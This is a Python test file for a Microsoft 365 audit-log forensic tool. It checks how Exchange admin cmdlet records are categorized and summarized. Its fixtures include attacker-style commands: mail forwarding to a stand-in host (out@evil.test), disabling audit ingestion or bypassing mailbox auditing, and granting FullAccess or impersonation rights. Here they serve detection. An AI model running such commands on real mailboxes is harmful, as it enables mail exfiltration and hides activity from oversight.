"""Cmdlets in the unified audit log (record type 1), and the readings every AuditData shares."""

import json

import pytest
from exchange_records import BASE, access, cmdlet, event_of

from m365timeline.normalizers.audit_data.common import flag, known, named, text_of, whole
from m365timeline.schemas.event import Change


def test_forwarding_is_named_with_its_target():
    event = cmdlet(
        "Set-Mailbox",
        {
            "Identity": "amy@contoso.test",
            "ForwardingSmtpAddress": "smtp:out@evil.test",
            "DeliverToMailboxAndForward": "True",
        },
        ObjectId="EURPR04A009.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/contoso.test/amy",
    )
    assert (event.category, event.severity, event.outcome) == ("forwarding", "high", "success")
    assert event.mailbox == "amy@contoso.test"
    assert "smtp:out@evil.test" in event.summary
    assert event.summary.startswith("helen@contoso.test ")
    assert event.changes == [
        Change("ForwardingSmtpAddress", None, "smtp:out@evil.test"),
        Change("DeliverToMailboxAndForward", None, "True"),
    ]
    assert (
        event.command
        == "Set-Mailbox -Identity amy@contoso.test -ForwardingSmtpAddress smtp:out@evil.test -DeliverToMailboxAndForward:$True"
    )
    assert event.actor_is_owner is None


def test_forwarding_of_the_own_mailbox_is_the_owners_act():
    event = cmdlet(
        "Set-Mailbox",
        {"Identity": "Helen@Contoso.test", "ForwardingSmtpAddress": "smtp:out@evil.test"},
        ObjectId="helen",
    )
    assert event.actor_is_owner is True


@pytest.mark.parametrize(
    ("operation", "parameters", "category"),
    [
        ("New-InboxRule", {"Name": "Direct", "DeleteMessage": "True"}, "rule"),
        ("Add-MailboxPermission", {"User": "bob", "AccessRights": "FullAccess"}, "permission"),
        ("Add-RecipientPermission", {"Trustee": "bob", "AccessRights": "SendAs"}, "permission"),
        ("Set-Mailbox", {"GrantSendOnBehalfTo": "bob"}, "permission"),
        ("Set-Mailbox", {"AuditLogAgeLimit": "00:00:00"}, "audit_config"),
        ("Set-AdminAuditLogConfig", {"UnifiedAuditLogIngestionEnabled": "False"}, "audit_config"),
        ("Set-MailboxAuditBypassAssociation", {"AuditBypassEnabled": "True"}, "audit_config"),
        ("Set-OrganizationConfig", {"AuditDisabled": "True"}, "audit_config"),
        ("Add-RoleGroupMember", {"Member": "bob"}, "role"),
        ("New-RoleGroup", {"Roles": "ApplicationImpersonation"}, "role"),
        ("Set-HostedOutboundSpamFilterPolicy", {"AutoForwardingMode": "On"}, "mail_flow_config"),
        ("New-ComplianceSearch", {"Name": "all"}, "ediscovery"),
    ],
)
def test_cmdlets_have_the_category_of_what_they_change(operation, parameters, category):
    event = cmdlet(operation, parameters, ObjectId="amy")
    assert event.category == category
    assert event.target == "amy"
    assert operation in event.command


def test_a_rule_named_with_a_blank_keeps_its_blank():
    event = cmdlet("New-InboxRule", {"Name": "", "DeleteMessage": "True"}, ObjectId="amy\\ ")
    assert event.target == "amy\\ "
    assert (event.target_type, event.mailbox) == ("rule", "amy")
    assert "blank name" in event.summary


def test_steering_parameters_are_no_changes():
    event = cmdlet(
        "Set-CASMailbox",
        {"Identity": "amy", "DomainController": "", "Force": "True", "PopEnabled": "True"},
        ObjectId="amy",
    )
    assert event.changes == [Change("PopEnabled", None, "True")]


def test_a_failed_or_removing_cmdlet_changed_nothing():
    failed = cmdlet("Set-CASMailbox", {"PopEnabled": "True"}, ObjectId="amy", ResultStatus="False")
    assert (failed.outcome, failed.changes) == ("failure", None)
    assert "tried and failed" in failed.summary
    assert (
        cmdlet("Remove-MailboxPermission", {"User": "bob", "AccessRights": "FullAccess"}, ObjectId="amy").changes
        is None
    )


def test_verbose_logging_tells_old_and_new():
    event = cmdlet(
        "Set-CASMailbox",
        {"PopEnabled": "True"},
        ObjectId="amy",
        ModifiedProperties=[{"Name": "PopEnabled", "OldValue": "False", "NewValue": "True"}],
    )
    assert event.changes == [Change("PopEnabled", "False", "True")]


def test_parameters_written_as_one_text_are_read():
    event = cmdlet(
        "New-InboxRule",
        '-Name "in ""box""" -ForwardTo \'out@evil.test\' -Force -StopProcessingRules:$true -Description "" ',
        ObjectId="amy\\in",
    )
    assert event.category == "forwarding"
    assert event.changes == [
        Change("Name", None, 'in "box"'),
        Change("ForwardTo", None, "out@evil.test"),
        Change("StopProcessingRules", None, "True"),
        Change("Description", None, ""),
    ]
    assert "-Force -Stop" in event.extra


@pytest.mark.parametrize("parameters", ["", [], None, [{"Name": "Identity"}], ["loose text"], {"odd": 1}])
def test_odd_parameters_lose_nothing(parameters):
    event = event_of(
        BASE
        | {
            "RecordType": 1,
            "Operation": "Set-User",
            "UserId": "helen@contoso.test",
            "ObjectId": "amy",
            "Parameters": parameters,
        }
    )
    assert event.target == "amy"
    assert event.outcome == "unknown"
    assert json.loads(event.extra)["Parameters"] == parameters


def test_values_cut_by_exchange_are_flagged():
    cut = "x" * 1024 + "..."
    assert cmdlet("New-App", {"FileData": "QUJD" * 22 + "..."}).quality == ["truncated_value"]
    assert cmdlet("Set-User", {"Notes": cut}, ObjectId="amy").quality == ["truncated_value"]
    assert cmdlet("Set-User", {"Notes": cut[:-1]}, ObjectId="amy").quality is None


def test_admin_records_tell_address_session_and_server():
    event = cmdlet(
        "Set-User", {}, ObjectId="amy", ClientIP="[2001:db8::9]:30943", SessionId="{1E728C4F-1AC6-45CD-AE9C-DC400E2AD508}",
        ExternalAccess=True, OriginatingServer="DB8PR04MB6875 (15.20.4042.018)", AppPoolName="MSExchangeOWAAppPool",
    )  # fmt: skip
    assert (event.ip, event.port) == ("2001:db8::9", 30943)
    assert event.session_id == "1e728c4f-1ac6-45cd-ae9c-dc400e2ad508"
    assert event.server == "DB8PR04MB6875 (15.20.4042.018)"
    assert event.external_access is True
    assert json.loads(event.extra)["AppPoolName"] == "MSExchangeOWAAppPool"


# Shared readings


def test_both_addresses_of_a_record_are_kept():
    event = access("Update", 2, ClientIP="198.51.100.7", ClientIPAddress="2603:1026::5")
    assert event.ip == "198.51.100.7"
    assert json.loads(event.extra)["ClientIPAddress"] == "2603:1026::5"


def test_small_readings():
    assert [known(value) for value in (None, "", " x ", "Not Available", 0, False, [])] == [
        None,
        None,
        "x",
        None,
        "0",
        "False",
        None,
    ]
    assert [text_of(value) for value in (None, "", " x ", True, 7, {})] == [None, None, " x ", "True", "7", None]
    assert [flag(value) for value in (True, "false", "TRUE", "", 1, None)] == [True, False, True, None, None, None]
    assert [whole(value) for value in (3, "12", -1, "1.5", True, None)] == [3, 12, None, None, None, None]
    assert named([{"Name": "a", "Value": 1}, {"Key": "b"}, "text", {"Name": "a", "Value": "x"}]) == {
        "a": "1; x",
        "b": "",
    }
    assert named({"Name": "lone", "Value": ["a", "b"]}) == {"lone": "a;b"}
    assert named("text") == {}


def test_the_record_goes_before_its_access_context():
    context = {
        "ClientAppId": "app-2",
        "ClientAppName": "Mailer",
        "AADSessionId": "{ABC}",
        "CorrelationId": "c-2",
        "UniqueTokenId": "t-2",
    }
    event = access(AppAccessContext=context, AppId="app-3", RequestId="r-3")
    assert (event.app_id, event.app_name, event.session_id) == ("app-2", "Mailer", "abc")
    assert (event.correlation_id, event.token_id) == ("c-2", "t-2")
    nearer = access(AppAccessContext=context, ClientAppId="app-1", SessionId="s-1", CorrelationID="c-1")
    assert (nearer.app_id, nearer.session_id, nearer.correlation_id) == ("app-1", "s-1", "c-1")
    bare = access(AppAccessContext={}, AppId="app-3", RequestId="r-3", UserSessionId="u-3")
    assert (bare.app_id, bare.session_id, bare.correlation_id, bare.token_id) == ("app-3", "u-3", "r-3", None)
